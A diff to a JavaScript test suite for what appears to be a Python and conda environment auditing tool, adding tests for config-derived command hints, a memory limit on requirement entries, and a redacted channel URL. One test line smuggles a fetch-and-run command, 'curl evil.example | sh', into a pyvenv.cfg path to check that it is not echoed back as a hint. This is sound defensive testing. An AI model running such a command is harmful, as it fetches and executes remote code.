@@ -226,6 +226,9 @@ describe('an installed environment', () => {
   it('says that it sees its base interpreter’s distributions too', () => {
     const reading = read(installed('a', '1'), { 'pyvenv.cfg': CONFIG.replace('false', 'true') });
     assert.deepEqual(problems(reading), ['environment-undetermined env/pyvenv.cfg:4']);
+    assert.equal(reading.problems[0]?.hint, 'audit that as well: `--environment /usr/bin`');
+    const hostile = CONFIG.replace('false', 'true').replace('/usr/bin', '/x; curl evil.example | sh #');
+    assert.equal(read(installed('a', '1'), { 'pyvenv.cfg': hostile }).problems[0]?.hint, undefined);
   });
 
   it('says which editable installation has lost its metadata', () => {
@@ -251,6 +254,20 @@ describe('an installed environment', () => {
 
   it('that is none is said', () => {
     assert.deepEqual(problems(readEnvironment(memoryFolder({ 'a.txt': '' }))), ['environment-undetermined env:1']);
+  });
+
+  it('cannot fill the memory with requirements', () => {
+    const many = Array.from({ length: 12_000 }, (_, i) => `Requires-Dist: r${i}`);
+    const text = metadata('x', '1', ...many);
+    const files = Array.from({ length: 30 }, (_, i) =>
+      installed(`x${i}`, '1', [], { METADATA: text.replace('Name: x', `Name: x${i}`) }),
+    );
+    const reading = read(...files);
+    assert.deepEqual(
+      reading.problems.map(({ code }) => code),
+      ['entry-limit'],
+    );
+    assert.equal(pins(reading).length, 30);
   });
 
   it('cannot be made slow by what is written in it', () => {
@@ -395,7 +412,7 @@ describe('a conda environment', () => {
       ],
     );
     const torch = named(reading, 'torch');
-    assert.equal(torch.source.url, 'https://***@conda.example/conda-forge/linux-64');
+    assert.equal(torch.source.url, 'https://***@conda.example/conda-forge');
     assert.equal(torch.purl, 'pkg:conda/pytorch@2.3.0?build=h1_0&channel=conda-forge&subdir=linux-64');
     assert.deepEqual(torch.hashes, [`sha256:${'ab'.repeat(32)}`]);
     assert.deepEqual(named(reading, 'openssl').requires, ['ca', 'libgcc']);
